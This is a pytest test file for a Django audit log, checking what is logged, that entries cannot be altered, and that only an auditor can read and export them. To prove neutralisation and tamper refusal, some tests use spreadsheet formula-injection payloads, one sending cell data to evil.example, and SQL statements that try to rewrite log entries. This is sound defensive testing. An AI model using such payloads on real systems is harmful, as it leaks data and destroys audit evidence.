"""The audit trail: what is logged, that it cannot be changed, and who may read it."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.db import DatabaseError, connection, transaction
from django.utils import timezone
from openpyxl import load_workbook

from xinqu.core.audit import audit_record
from xinqu.core.models import AuditEntry
from xinqu.core.services import audit_purge, department_save

pytestmark = pytest.mark.django_db


def test_update_is_logged_field_by_field_with_ip(as_user, econ_staff):
    client = as_user(econ_staff)
    client.post(
        "/updates/new/",
        {"title": "原标题", "body": "正文", "happened_on": "2024-03-01"},
        REMOTE_ADDR="10.1.2.3",
    )
    update_id = AuditEntry.objects.get(action="create", object_type="updates.WorkUpdate").object_id
    client.post(
        f"/updates/{update_id}/edit/",
        {"title": "新标题", "body": "正文", "happened_on": "2024-03-02"},
        REMOTE_ADDR="10.1.2.4",
    )
    entry = AuditEntry.objects.get(action="update", object_id=update_id)
    assert entry.actor_username == "econ-staff"
    assert entry.ip == "10.1.2.4"
    assert entry.changes == {"title": ["原标题", "新标题"], "happened_on": ["2024-03-01", "2024-03-02"]}


def test_delete_is_logged_with_the_old_values(as_user, econ_staff, make_update):
    update = make_update(econ_staff, title="要删的草稿")
    as_user(econ_staff).post(f"/updates/{update.pk}/delete/")
    entry = AuditEntry.objects.get(action="delete")
    assert entry.changes["title"] == ["要删的草稿", None]


def test_login_logout_and_failed_login_are_logged(client, econ_staff):
    client.post(
        "/accounts/login/", {"username": "econ-staff", "password": "wrong-Password-1"}, REMOTE_ADDR="10.9.9.9"
    )
    client.post(
        "/accounts/login/", {"username": "econ-staff", "password": "Correct-Horse-42"}, REMOTE_ADDR="10.9.9.9"
    )
    client.post("/accounts/logout/", REMOTE_ADDR="10.9.9.9")
    actions = list(AuditEntry.objects.order_by("id").values_list("action", "actor_username", "ip"))
    assert actions == [
        ("login_failed", "econ-staff", "10.9.9.9"),
        ("login", "econ-staff", "10.9.9.9"),
        ("logout", "econ-staff", "10.9.9.9"),
    ]


def test_the_application_cannot_change_or_delete_an_entry(sysadmin):
    department_save(actor=sysadmin, code="stats", name="统计局")
    entry = AuditEntry.objects.get()
    entry.detail = "tampered"
    with pytest.raises(PermissionError):
        entry.save()
    with pytest.raises(PermissionError):
        entry.delete()
    with pytest.raises(PermissionError):
        AuditEntry.objects.update(detail="tampered")
    with pytest.raises(PermissionError):
        AuditEntry.objects.all().delete()
    assert AuditEntry.objects.get().detail == ""


def test_the_database_refuses_updates_and_early_deletes(sysadmin):
    department_save(actor=sysadmin, code="stats", name="统计局")
    table = AuditEntry._meta.db_table
    for statement in (f"UPDATE {table} SET detail = 'tampered'", f"DELETE FROM {table}"):
        with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
            cursor.execute(statement)
    assert AuditEntry.objects.get().detail == ""


def _insert_entry_at(when: dt.datetime) -> None:
    with connection.cursor() as cursor:
        cursor.execute(
            f"INSERT INTO {AuditEntry._meta.db_table} (at, actor_username, action, object_type, object_id, "
            "object_repr, changes, detail) VALUES (%s, 'old', 'login', 'session', '', '', '{}', '')",
            [when],
        )


def test_purge_removes_only_entries_past_retention(settings):
    now = timezone.now()
    _insert_entry_at(now - dt.timedelta(days=400))
    _insert_entry_at(now - dt.timedelta(days=190))
    _insert_entry_at(now - dt.timedelta(days=10))
    settings.AUDIT_RETENTION_DAYS = 365
    assert audit_purge() == 1
    settings.AUDIT_RETENTION_DAYS = 100  # below the floor: 184 days still apply
    assert audit_purge() == 1
    assert AuditEntry.objects.count() == 1


def test_only_the_audit_administrator_reads_the_log(as_user, auditor, leader, sysadmin, secadmin, econ_head):
    for persona in (leader, sysadmin, secadmin, econ_head):
        assert as_user(persona).get("/audit/").status_code == 403
    assert as_user(auditor).get("/audit/").status_code == 200


def test_auditor_filters_the_log(as_user, auditor, sysadmin):
    department_save(actor=sysadmin, code="stats", name="统计局")
    department_save(actor=sysadmin, code="finance", name="财政局")
    client = as_user(auditor)
    page = client.get("/audit/", {"object_type": "Department", "action": "create"}).content.decode()
    assert "统计局" in page and "财政局" in page
    page = client.get("/audit/", {"username": "nobody"}).content.decode()
    assert "统计局" not in page
    bad = client.get("/audit/", {"date_from": "2024-05-02", "date_to": "2024-05-01"}).content.decode()
    assert "起始日期不能晚于截止日期" in bad


def test_auditor_exports_the_log_with_formulas_neutralised(as_user, auditor, sysadmin):
    department_save(actor=sysadmin, code="evil", name='=HYPERLINK("http://x")')
    response = as_user(auditor).get("/audit/export.xlsx", {"action": "create"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "时间"
    assert rows[1][6] == '\'=HYPERLINK("http://x")'
    assert AuditEntry.objects.filter(action="export", actor_username="auditor").exists()


def test_audit_list_query_count_is_constant(as_user, auditor, sysadmin, django_assert_num_queries):
    from django.test.utils import CaptureQueriesContext

    client = as_user(auditor)
    department_save(actor=sysadmin, code="d0", name="部门0")
    with CaptureQueriesContext(connection) as few:
        client.get("/audit/")
    for i in range(1, 30):
        department_save(actor=sysadmin, code=f"d{i}", name=f"部门{i}")
    with django_assert_num_queries(len(few.captured_queries)):
        client.get("/audit/")


@pytest.mark.skipif(connection.vendor != "sqlite", reason="REPLACE is SQLite's")
@pytest.mark.parametrize(
    "verb", ["INSERT OR REPLACE INTO", "REPLACE INTO"], ids=["insert-or-replace", "replace-into"]
)
def test_sqlite_refuses_replace_of_a_young_entry(sysadmin, verb):
    department_save(actor=sysadmin, code="stats", name="统计局")
    entry = AuditEntry.objects.get()
    table = AuditEntry._meta.db_table
    with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute(
            f"{verb} {table} (id, at, actor_username, action, object_type, object_id, object_repr, "
            "changes, detail) VALUES (%s, %s, 'forger', 'login', '', '', '', '{}', 'tampered')",
            [entry.pk, entry.at],
        )
    assert AuditEntry.objects.get().actor_username == "sysadmin"


def test_the_database_refuses_an_upsert_over_an_entry(sysadmin):
    department_save(actor=sysadmin, code="stats", name="统计局")
    entry = AuditEntry.objects.get()
    table = AuditEntry._meta.db_table
    with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute(
            f"INSERT INTO {table} (id, at, actor_username, action, object_type, object_id, object_repr, "
            "changes, detail) VALUES (%s, %s, 'forger', 'login', '', '', '', '{}', '') "
            "ON CONFLICT (id) DO UPDATE SET detail = 'tampered'",
            [entry.pk, entry.at],
        )
    assert AuditEntry.objects.get().detail == ""


def test_a_failed_login_with_a_formula_behind_control_characters_exports_as_text(client, as_user, auditor):
    username = '\x01=HYPERLINK("http://evil.example/?x="&A1,"点此")'
    client.post("/accounts/login/", {"username": username, "password": "wrong-Password-1"})
    response = as_user(auditor).get("/audit/export.xlsx", {"action": "login_failed"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    cell = sheet.cell(row=2, column=2)
    assert cell.data_type == "s"
    assert cell.value == "'" + username[1:]


@pytest.mark.parametrize(
    ("url", "object_type"),
    [
        ("/enterprises/export.xlsx", "enterprises.Enterprise"),
        ("/indicators/?format=xlsx", "indicators.overview"),
        ("/indicators/catalog/?format=xlsx", "indicators.Indicator"),
        ("/indicators/targets/?format=xlsx", "indicators.Target"),
        ("/service-requests/metrics/?format=xlsx", "service_requests.metrics"),
    ],
)
def test_every_business_export_writes_an_audit_entry(as_user, leader, zone, url, object_type):
    response = as_user(leader).get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    entry = AuditEntry.objects.get(action="export")
    assert (entry.actor_username, entry.object_type) == ("leader", object_type)


def test_the_audit_export_is_built_on_the_worker_for_the_auditor_only(
    as_user, auditor, leader, settings, monkeypatch
):
    from django.core.management import call_command

    from xinqu.core.models import ExportJob

    settings.IMPORTS_IN_BACKGROUND = True
    audit_record(actor=leader, action=AuditEntry.Action.UPDATE, object_type="test.Thing", detail="改了一处")
    client = as_user(auditor)
    response = client.get("/audit/export.xlsx", {"object_type": "test.Thing"})
    job = ExportJob.objects.get(kind="audit")
    assert response["Location"] == f"/exports/{job.pk}/"
    monkeypatch.setattr("django_tasks_db.management.commands.db_worker.close_old_connections", lambda: None)
    call_command("worker", "--batch", "--no-startup-delay", verbosity=0)
    sheet = load_workbook(io.BytesIO(client.get(f"/exports/{job.pk}/file.xlsx").content)).active
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    # The export reads as the page does: the kind in words (an unknown one is a "system record").
    assert [(r[1], r[4], r[8]) for r in rows] == [(leader.username, "系统记录", "改了一处")]
    assert AuditEntry.objects.filter(action="export", object_type="core.AuditEntry").count() == 1
    assert as_user(leader).get("/audit/export.xlsx").status_code == 403


def test_the_log_reads_in_words_not_model_or_field_names(as_user, auditor, econ, econ_staff):
    """谁 在 何时 对 哪条记录 做了 什么: the record's kind and each field by its label, a choice
    by its label; no "enterprises.Enterprise", no "name", no Python dict."""
    from tests import factories
    from xinqu.enterprises import services as enterprise_services

    firm = factories.enterprise(econ, name="改名前公司")
    enterprise_services.enterprise_update(
        actor=econ_staff, enterprise=firm, name="改名后公司", above_scale=True
    )
    page = as_user(auditor).get("/audit/").content.decode()
    assert "enterprises.Enterprise" not in page and "{&#x27;" not in page
    assert "<strong>企业名称</strong>：改名前公司 → 改名后公司" in page
    assert "<strong>规上企业</strong>：否 → 是" in page


def test_each_detail_a_module_writes_reads_in_words(as_user, auditor, econ_staff):
    """A detail is written once in a stable form and shown in the reader's language; what no
    module describes (a reason someone typed) is shown as written."""
    for detail in ("copied from 2024: 45 nodes", "fed figures written for 2024-05", "accept 企业服务中心",
                   "tier rule: 2023 rules", "q=abc&area=3", "这是手写的原因"):  # fmt: skip
        audit_record(actor=econ_staff, action=AuditEntry.Action.UPDATE, object_type="demo", detail=detail)
    client = as_user(auditor)
    page = client.get("/audit/").content.decode()
    for words in ("从 2024 年计划复制，共 45 个节点", "写入 2024-05 自动取数的数值", "受理（企业服务中心）",
                  "按 2023 年规则调整培育层级", "按 2 项筛选条件", "这是手写的原因"):  # fmt: skip
        assert words in page, words
    assert "copied from" not in page and "fed figures" not in page and "area=3" not in page
    client.cookies["django_language"] = "en"
    english = client.get("/audit/").content.decode()
    assert "Copied from the 2024 plan, 45 nodes" in english
